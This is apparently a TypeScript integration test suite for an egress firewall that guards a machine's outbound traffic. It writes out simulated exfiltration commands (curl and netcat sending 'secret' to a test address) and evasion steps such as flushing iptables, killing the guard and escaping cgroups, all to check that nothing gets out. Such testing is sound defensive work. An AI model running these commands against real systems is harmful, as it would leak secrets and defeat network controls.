/** The whole machine under guard: start, stop, and what happens in between. */

import assert from "node:assert/strict";
import { Inbox, readJsonLines } from "../support/kernel_lines.ts";
import { readLog } from "../support/run.ts";
import { logOf, machineSuite } from "../support/machine_suite.ts";

const test = machineSuite();
const POLICY = "site.test\nhttp://site.test/*\n";
/** No namespaces for users, nor the memory of others' processes. */
const HARDENED =
  "cd /proc/sys/kernel; cat unprivileged_userns_clone apparmor_restrict_unprivileged_userns yama/ptrace_scope";
/** In parallel: most of it ends by a time limit. */
const STEAL = `
curl -sS -m 2 -d secret http://203.0.113.66/ &
echo secret | nc -u -w 1 203.0.113.66 9000 &
echo secret | nc -N -w 1 203.0.113.66 9000 &
ping -c 1 -W 1 203.0.113.66 &
curl -sS -m 2 -d secret 'http://[2001:db8:66::66]/' &
wait`;

test("start guards every process, and stop puts everything back", async (s) => {
  const before = await s.state();
  const started = await s.guard(POLICY);
  assert.match(started.stdout, /guards this machine \(enforce\); orders from: root/);
  assert.equal((await s.machine.sh(HARDENED)).stdout, "0\n1\n1\n");
  await s.begin();
  const get = await s.machine.run("curl", "-sS", "-m", "5", "https://site.test/");
  assert.equal(get.stdout, "GET / 0\n", get.stderr);
  // Root, another user, other cgroups, rules gone.
  await s.machine.sh(STEAL);
  await s.machine.sh(`setpriv --reuid 65534 --clear-groups -- bash -c "$1"`, STEAL);
  await s.machine.sh(
    `root=$(sed -n 's/^[^ ]* [^ ]* [^ ]* \\/ \\([^ ]*\\) .* - cgroup2 .*/\\1/p' /proc/self/mountinfo)
     mkdir "$root/elsewhere"; echo $$ > "$root/elsewhere/cgroup.procs"
     ${STEAL}`,
  );
  await s.attackerGotNothing();
  const log = await readLog(logOf(s));
  assert.ok(log.some((e) => e.type === "https" && e.policy === "allow" && e.host === "site.test"));
  assert.ok(log.some((e) => e.type === "udp" && e.policy === "deny" && e.dst_port === 9000));

  const stopped = await s.machine.egress("stop");
  assert.equal(stopped.code, 0, stopped.stderr);
  assert.match(stopped.stdout, /as it was before/);
  await s.machine.sh("rmdir /sys/fs/cgroup/*/elsewhere /sys/fs/cgroup/elsewhere 2>/dev/null");
  assert.equal(await s.state(), before);
  const end = (await readLog(logOf(s))).at(-1);
  assert.equal(end?.type, "stop");
  assert.equal((await s.machine.egress("status")).code, 1);
});

test("connections that were open at the start do not go on", async (s) => {
  const program = `
import json, socket, sys
tcp = socket.create_connection(("203.0.113.66", 9000))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.connect(("203.0.113.66", 9000))
tcp.sendall(b"before"); udp.send(b"before"); udp.recv(100)
print(json.dumps({"open": True}), flush=True)
sys.stdin.readline()
for s in (tcp, udp):
    try: s.send(b"secret")
    except OSError as e: print(json.dumps({"error": str(e)}), flush=True)
print(json.dumps({"tried": True}), flush=True)
sys.stdin.readline()`;
  const child = s.machine.spawn(["/usr/bin/python3", "-c", program], "piped");
  const lines = new Inbox<Record<string, unknown>>();
  const read = readJsonLines(child.stdout, lines);
  await lines.take((line) => line.open === true);
  await s.guard(POLICY);
  await s.begin();
  const input = child.stdin.getWriter();
  await input.write(new TextEncoder().encode("\n"));
  await lines.take((line) => line.tried === true);
  await s.attackerGotNothing();
  await input.close();
  await Promise.all([child.status, read, child.stderr.cancel()]);
  await s.attackerGotNothing();
});

for (const how of ["start", "stop"]) {
  test(`a killed guard leaves the machine closed; the next ${how} puts it in order`, async (s) => {
    const before = await s.state();
    await s.guard(POLICY);
    const { id } = JSON.parse((await s.machine.egress("status", "--json")).stdout);
    const killed = await s.machine.sh(
      `pid=$(fuser "/run/egress/${id}/lock" 2>/dev/null || lslocks -no PID,PATH | awk '/${id}\\/lock/ {print $1}')
       kill -9 $pid; while [ -e /proc/$pid ] && ! grep -q '^State:.Z' /proc/$pid/status; do sleep 0.02; done; echo $pid`,
    );
    assert.match(killed.stdout, /^\s*\d+/, killed.stderr);
    await s.begin();
    await s.machine.sh(STEAL);
    const site = await s.machine.run("curl", "-sS", "-m", "3", "http://site.test/");
    assert.notEqual(site.code, 0);
    await s.machine.sh("iptables -t nat -F; iptables -t mangle -F; iptables -F; true");
    await s.machine.sh(STEAL);
    await s.attackerGotNothing();
    assert.deepEqual((await s.received()).filter((r) => r.kind !== "dns"), []);
    // Another command's clean-up does not open the machine.
    const run = await s.machine.egress("run", "--audit", "--", "true");
    assert.equal(run.code, 0, run.stderr);
    await s.machine.sh(STEAL);
    await s.attackerGotNothing();
    if (how === "start") {
      await s.guard(POLICY);
      const get = await s.machine.run("curl", "-sS", "-m", "5", "https://site.test/");
      assert.equal(get.stdout, "GET / 0\n", get.stderr);
      await s.machine.sh(STEAL);
      await s.attackerGotNothing();
    }
    const stopped = await s.machine.egress("stop");
    assert.equal(stopped.code, 0, stopped.stderr);
    assert.equal(await s.state(), before);
  });
}

test("there is one guard on a machine, and a failed start leaves nothing", async (s) => {
  const before = await s.state();
  const bad = await s.machine.egress("start", "--policy-text", "not a rule at all");
  assert.equal(bad.code, 1, bad.stderr);
  assert.match(bad.stderr, /1:\d+: error/);
  // Everything else has been set up when the sudoers file turns out not to be replaceable.
  await s.machine.sh(
    "echo '# none' > /etc/sudoers.d/runner; mkdir /etc/sudoers.d/runner.egress-new",
  );
  const broken = await s.machine.egress("start", "--policy-text", POLICY);
  assert.equal(broken.code, 125, broken.stderr);
  assert.match(broken.stderr, /sudo away failed/);
  await s.machine.sh("rm -r /etc/sudoers.d/runner /etc/sudoers.d/runner.egress-new");
  assert.equal(await s.state(), before);

  await s.guard(POLICY);
  const second = await s.machine.egress("start", "--policy-text", POLICY);
  assert.equal(second.code, 125);
  assert.match(second.stderr, /guards this machine already/);
  const get = await s.machine.run("curl", "-sS", "-m", "5", "https://site.test/");
  assert.equal(get.stdout, "GET / 0\n", get.stderr);
});

test("the status tells what there is", async (s) => {
  await s.guard(POLICY, "--audit");
  await s.machine.sh("curl -sS -m 3 http://203.0.113.66/");
  const { stdout } = await s.machine.egress("status", "--json");
  const status = JSON.parse(stdout);
  assert.equal(status.mode, "audit");
  assert.match(status.policy_sha256, /^[0-9a-f]{64}$/);
  assert.ok(Number.isInteger(status.uptime_s));
  for (const role of ["kernel", "engine", "proxy"]) assert.ok(status.roles[role] > 1, role);
  assert.equal(typeof status.queue.packets, "number");
  assert.equal(typeof status.gate.dropped, "number");
  assert.equal(status.blocked, 1, stdout);
  assert.equal(status.blocked_destinations[0].destination, "GET http://203.0.113.66/");
  assert.equal(status.control, "root");
  assert.match((await s.machine.egress("status")).stdout, /^mode +audit$/m);
});

test("what others changed meanwhile stays, and is told", async (s) => {
  await s.guard(POLICY);
  const other = "-----BEGIN CERTIFICATE-----\nOTHER\n-----END CERTIFICATE-----";
  await s.machine.sh(`echo "$1" >> /etc/ssl/certs/ca-certificates.crt`, other);
  await s.machine.sh("iptables -A OUTPUT -d 192.0.2.99 -j ACCEPT");
  const stopped = await s.machine.egress("stop");
  assert.equal(stopped.code, 1);
  assert.match(stopped.stderr, /not as before: - file .*ca-certificates.crt/);
  const bundle = await s.machine.sh(
    "tail -n 3 /etc/ssl/certs/ca-certificates.crt; iptables -S OUTPUT",
  );
  assert.match(bundle.stdout, /OTHER/);
  assert.match(bundle.stdout, /192\.0\.2\.99/);
  const all = await s.machine.sh("cat /etc/ssl/certs/ca-certificates.crt");
  assert.doesNotMatch(all.stdout, /egress/);
});

test("containers: what they send into the world is stopped, what stays on the machine is not", async (s) => {
  const made = await s.machine.sh(`
    set -e
    ip link add docker0 type bridge
    ip address add 172.30.0.1/24 dev docker0
    ip link set docker0 up
    unshare --net sleep infinity >/dev/null 2>&1 & inner=$!
    until [ ! "/proc/$inner/ns/net" -ef /proc/self/ns/net ]; do sleep 0.02; done
    ip link add vethc type veth peer name eth0 netns $inner
    ip link set vethc master docker0 up
    nsenter -t $inner --net sh -ec '
      ip link set lo up; ip address add 172.30.0.2/24 dev eth0; ip link set eth0 up
      ip route add default via 172.30.0.1'
    echo 1 > /proc/sys/net/ipv4/ip_forward
    iptables -t nat -A POSTROUTING -s 172.30.0.0/24 ! -o docker0 -j MASQUERADE
    echo $inner`);
  assert.equal(made.code, 0, made.stderr);
  const inner = made.stdout.trim();
  const inside = (script: string) =>
    s.machine.run("nsenter", "-t", inner, "--net", "bash", "-c", script);
  const free = await inside("curl -sS -m 3 -o /dev/null -w '%{http_code}' http://203.0.113.66/");
  assert.equal(free.stdout, "200", "without a guard it gets out");
  await s.guard(POLICY);
  await s.begin();
  await inside(STEAL);
  await s.attackerGotNothing();
  await inside("/usr/bin/python3 -m http.server 8000 --directory /usr/share/doc >/dev/null 2>&1 &");
  const local = await s.machine.sh(
    "for i in $(seq 30); do curl -sS -m 5 -o /dev/null -w '%{http_code}' http://172.30.0.2:8000/ && break; sleep 0.2; done",
  );
  assert.match(local.stdout, /200$/, local.stderr);
  assert.equal((await s.machine.egress("stop")).code, 0);
  await s.machine.sh("ip link del docker0; iptables -t nat -F; kill " + inner);
});
